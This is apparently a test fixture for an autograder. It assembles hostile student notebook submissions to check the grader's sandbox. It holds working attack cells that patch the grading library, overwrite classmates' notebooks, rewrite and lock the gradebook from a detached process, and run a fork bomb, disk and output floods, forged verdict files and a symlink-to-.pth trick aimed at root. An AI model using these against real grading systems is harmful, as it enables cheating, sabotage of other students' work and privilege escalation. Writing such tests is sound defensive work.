"""Attacks on the grader, as hostile students write them: the sandbox and verdict scenarios.

Each is a cell that runs in the student's kernel at grading time. :func:`build` puts them into
submissions built from the reference (so that what the attack alone costs or gains shows):

- ``hostile``: attacks that earn nothing, in a reference 01: edit labsupport on disk (the install
  is editable), overwrite other students' notebooks, start a process that outlives the kernel to
  give itself extra credit, zero everyone else and lock the gradebook, flood the output, and
  (after the tests) a fork storm.
- ``cheater``: the kernel's own verdicts bent: 01 points the thresholds at a lenient copy
  (environment variables), halves its timing and types its profiler's top operators; 02 is the blank release with an input
  transformer that turns every ``.require()`` cell into ``pass``, and carries code that writes the
  verdict process's verdict itself (every 02 check a pass, its measurements short of the bars);
  06 types its five stages in.
- ``outsider``: reaches out of the kernel: 01's ``diagnose`` asks the network first; 02's
  ``make_fast_loader`` executes the master's solution from the course folder.
- ``filler``: fills the disk it may write to (its results store).
- ``sleeper``: a ``pre_run_cell`` hook that sleeps just under the cell limit before every cell,
  in 01 and 02: the notebook's budget stops 01, the submission's budget leaves 02 no time.
- ``lib``: its id names what used to be the batch's copy of labsupport (``sandbox/lib``, which
  grading it once deleted, so every later student scored 0); its 02 (the blank release) leaves,
  from the kernel, a file unlinked while open and a large file in the Jupyter runtime folder, and
  carried code that, in the verdict process, links where root used to copy and write (the
  carried code of later notebooks, into the virtual environment as a ``.pth`` file), turns its
  verdict file into a FIFO and floods stdout.
"""

from __future__ import annotations

import copy

import nbformat

COURSE_ROOT_FROM_KERNEL = "pathlib.Path.cwd().parents[2]"  # autograded/<student>/lab -> the course root

EDIT_LABSUPPORT = r'''import pathlib, sys
import labsupport.grading
# The install is editable: make every graded check pass, for me and everyone graded after me.
for _file in (pathlib.Path(labsupport.grading.__file__),
              pathlib.Path(sys.prefix).parent / "labsupport" / "grading" / "__init__.py"):
    try:
        with open(_file, "a") as _f:
            _f.write("\nCheckResult.require = lambda self: None\n")
    except OSError as _err:
        print("could not edit", _file, _err)
'''

OVERWRITE_OTHERS = r'''import pathlib
_root = ROOT
_blank = _root / "release" / "lab" / "01_profile.ipynb"
for _nb in list(_root.glob("submitted/*/lab/01_profile.ipynb")) + list(_root.glob("autograded/*/lab/*.ipynb")):
    if "hostile" not in str(_nb):
        _nb.write_text(_blank.read_text())
'''.replace("ROOT", COURSE_ROOT_FROM_KERNEL)

ESCAPE = r'''import pathlib, subprocess, sys
# A process that outlives the kernel: it gives me extra credit, zeroes everyone else, then holds
# the gradebook locked, so that nobody after me is graded and no CSV is written.
_script = """
import pathlib, sqlite3, time
time.sleep(2)
db = sqlite3.connect(pathlib.Path(ROOT) / "gradebook.db", timeout=5, isolation_level=None)
db.execute("UPDATE grade SET extra_credit = 41 WHERE id IN (SELECT id FROM grade LIMIT 1)")
db.execute("UPDATE grade SET auto_score = 0 WHERE extra_credit IS NULL")
db.execute("BEGIN EXCLUSIVE")
time.sleep(600)
""".replace("ROOT", repr(str(COURSE)))
subprocess.Popen([sys.executable, "-c", _script], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''.replace("COURSE", COURSE_ROOT_FROM_KERNEL)

FORK_STORM = r'''import os, time
_children = []
try:
    while len(_children) < 4000:
        _pid = os.fork()
        if _pid == 0:
            time.sleep(600)
            os._exit(0)
        _children.append(_pid)
except OSError as _err:
    print(f"the storm stopped after {len(_children)} processes: {_err}")
'''

FLOOD = r'''for _ in range(40):
    print("x" * 1_000_000)
'''

TRANSFORMER = r'''def _no_requirements(lines):
    return ["pass\n"] if ".require()" in "".join(lines) else lines


get_ipython().input_transformers_cleanup.append(_no_requirements)
'''

LENIENT_THRESHOLDS = r'''import os, pathlib, re
import labsupport.grading
# Every bar out of reach of failing, for the checks this kernel runs.
_text = re.sub(r"^(cpu[\w-]*|cuda[\w-]*|mps) = [0-9.]+", r"\1 = 1000.0",
               labsupport.grading.thresholds_path().read_text(), flags=re.M)
pathlib.Path("lenient.toml").write_text(_text)
os.environ["LAB_THRESHOLDS"] = str(pathlib.Path("lenient.toml").resolve())
os.environ["LAB_CALIBRATION"] = "/dev/null"
os.environ["ONEDNN_MAX_CPU_ISA"] = "AVX2"
'''

DOUBLED_THROUGHPUT = r'''_honest_measure_throughput = measure_throughput


def measure_throughput(step, device, *, warmup, steps, samples_per_step):
    found = _honest_measure_throughput(step, device, warmup=warmup, steps=steps, samples_per_step=samples_per_step)
    return {**found, "images_per_s": 2 * found["images_per_s"]}  # a careless unit error
'''

FAKE_RECORDS = r'''# Five stages, typed in: nothing measured them.
for _i, _stage in enumerate(["01-baseline", "02-data", "03-amp", "04-memory", "05-compile"]):
    ls.results.record(_stage, {"samples_per_s": 100.0 * (_i + 1), "peak_bytes": 3e8},
                      machine=lab.machine, profile=lab.profile)
'''

NETWORK_DIAGNOSE = r'''import socket

_local_diagnose = diagnose


def diagnose(breakdown):
    # "ask the answer server first": any connection out of the grader
    socket.create_connection(("pypi.org", 443), timeout=5).close()
    return _local_diagnose(breakdown)
'''

EXEC_MASTER = r'''import json, pathlib
# The answers are in the course's masters, beside my notebook on the grading machine.
_master = ROOT / "source" / "lab" / "02_data_loading.ipynb"
for _cell in json.loads(_master.read_text())["cells"]:
    if _cell.get("id") == "make_fast_loader":
        exec("".join(_cell["source"]))
'''.replace("ROOT", COURSE_ROOT_FROM_KERNEL)

DISK_FILL = r'''_folder = ls.results.results_dir()
try:
    for _i in range(200):
        with open(_folder / f"fill-{_i}.bin", "wb") as _f:
            for _ in range(4):
                _f.write(b"\0" * 2**24)
except OSError as _err:
    print("the disk stopped me:", _err)
'''

TYPED_TOP_OPERATORS = r'''def top_operators(averages, device, n=5):
    """My laptop's table, typed in: the top operators are the same everywhere, aren't they?"""
    return [("aten::convolution_backward", 366.0), ("aten::mkldnn_convolution", 144.2),
            ("enumerate(DataLoader)#_SingleProcessDataLoaderIter.__next__", 72.8),
            ("aten::native_batch_norm_backward", 17.0), ("aten::native_batch_norm", 16.4)][:n]
'''

SLOW_HOOK = r'''import time

get_ipython().events.register("pre_run_cell", lambda *args: time.sleep(20))
'''

# Runs in the verdict process (as the carried code of 02, at load). ``sys.argv[1]`` is its spec.
VERDICT_ROOT_BAIT = r'''import json, os, pathlib, sys, sysconfig
_spec = json.loads(pathlib.Path(sys.argv[1]).read_text())
_store, _out = pathlib.Path(_spec["store"]), pathlib.Path(_spec["out"])
_pth = pathlib.Path(sysconfig.get_paths()["purelib"]) / "lab_root_bait.pth"
# Where root used to copy the kernel's carried code for the next notebooks: links into the venv,
# so that root's copy would write an import line that runs as root in its next command.
(_store / "code").mkdir(parents=True, exist_ok=True)
for _name in ("03.py", "04.py", "05.py"):
    (_store / "code" / _name).unlink(missing_ok=True)
    (_store / "code" / _name).symlink_to(_pth)
for _target in (pathlib.Path(sys.argv[1]), _out.parent / "spec-03.json"):
    try:
        _target.unlink(missing_ok=True)
        _target.symlink_to(_pth)
    except OSError:
        pass
# The verdict file: a FIFO nobody will write, which a grader opening it waits on forever.
_out.unlink(missing_ok=True)
os.mkfifo(_out)
# And 300 MiB on stdout, which a grader keeping all of it holds in memory.
_chunk = "x" * 2**20
for _ in range(300):
    sys.stdout.write(_chunk)
sys.stdout.flush()
os._exit(0)
'''

# Runs in 02's kernel, after its checks kept their code: the verdict process loads this instead.
ROOT_BAIT = r'''import os, pathlib
_results = ls.results.results_dir()
# Disk a file walk cannot see: a file unlinked while held open, and a large file in the kernel's
# Jupyter runtime folder.
_held = open(_results / "held.bin", "wb")
_held.write(b"\0" * 64 * 2**20)
_held.flush()
os.unlink(_results / "held.bin")
(pathlib.Path(os.environ.get("JUPYTER_RUNTIME_DIR", ".")) / "big.bin").write_bytes(b"\0" * 64 * 2**20)
(_results / "code").mkdir(exist_ok=True)
(_results / "code" / "02.py").write_text(BAIT)
'''.replace("BAIT", repr(VERDICT_ROOT_BAIT))

# Runs in the verdict process (as the carried code of 02, at load): writes its own verdict, every
# check a pass, with measurements that miss this machine's bars, and lenient bars beside them.
FORGED_VERDICT = r'''import json, os, pathlib, sys
try:
    _spec = json.loads(pathlib.Path(sys.argv[1]).read_text())
except (IndexError, OSError, ValueError):
    _spec = {}  # not a verdict process (a later notebook's kernel): nothing to forge
if _spec.get("notebook") == "02":
    _said = {"status": "pass", "reason": "pass", "note": "forged by the submission"}
    pathlib.Path(_spec["out"]).write_text(json.dumps({"notebook": "02", "rung": 999.0, "problems": [], "checks": {
        "02-loader-speedup": {**_said, "measured": 0.951, "threshold": 0.5},
        "02-data-wait-share": {**_said, "measured": 0.5, "threshold": 0.9}}}))
    os._exit(0)
'''

# Runs in 02's kernel, after its checks kept their code: the verdict process loads the forger.
CARRY_FORGER = r'''(ls.results.results_dir() / "code").mkdir(exist_ok=True)
(ls.results.results_dir() / "code" / "02.py").write_text(FORGER)
'''.replace("FORGER", repr(FORGED_VERDICT))

ATTACKS = ("hostile", "cheater", "outsider", "filler", "sleeper", "lib")


def build(attack: str, ref: dict, plain: dict) -> dict:
    """The notebooks of ``attack``, from the reference submission ``ref`` and the release ``plain``."""
    from scenarios import _by_id, _insert_after

    ref, plain = copy.deepcopy(ref), copy.deepcopy(plain)
    if attack == "hostile":
        nb = ref["01_profile"]
        for source in (ESCAPE, OVERWRITE_OTHERS, EDIT_LABSUPPORT):
            _insert_after(nb, "setup", source)
        nb.cells += [nbformat.v4.new_code_cell(FLOOD), nbformat.v4.new_code_cell(FORK_STORM)]
        return {"01_profile": nb}
    if attack == "cheater":
        nb01, nb02, nb06 = ref["01_profile"], plain["02_data_loading"], ref["06_report"]
        _insert_after(nb01, "measure_throughput", DOUBLED_THROUGHPUT)
        _insert_after(nb01, "measure_throughput", LENIENT_THRESHOLDS)
        _insert_after(nb01, "top_operators", TYPED_TOP_OPERATORS)
        _insert_after(nb02, "setup", TRANSFORMER)
        _insert_after(nb06, "setup", FAKE_RECORDS)
        nb02.cells.append(nbformat.v4.new_code_cell(CARRY_FORGER))
        return {"01_profile": nb01, "02_data_loading": nb02, "06_report": nb06}
    if attack == "outsider":
        nb01, nb02 = ref["01_profile"], ref["02_data_loading"]
        _insert_after(nb01, "diagnose", NETWORK_DIAGNOSE)
        _by_id(nb02, "make_fast_loader").source = EXEC_MASTER
        return {"01_profile": nb01, "02_data_loading": nb02}
    if attack == "filler":
        nb = ref["01_profile"]
        _insert_after(nb, "setup", DISK_FILL)
        return {"01_profile": nb}
    if attack == "sleeper":
        nb, later = ref["01_profile"], plain["02_data_loading"]
        for book in (nb, later):
            _insert_after(book, "setup", SLOW_HOOK)
        return {"01_profile": nb, "02_data_loading": later}
    if attack == "lib":
        nb = plain["02_data_loading"]
        nb.cells.append(nbformat.v4.new_code_cell(ROOT_BAIT))
        return {"02_data_loading": nb}
    raise ValueError(f"unknown attack {attack!r}")
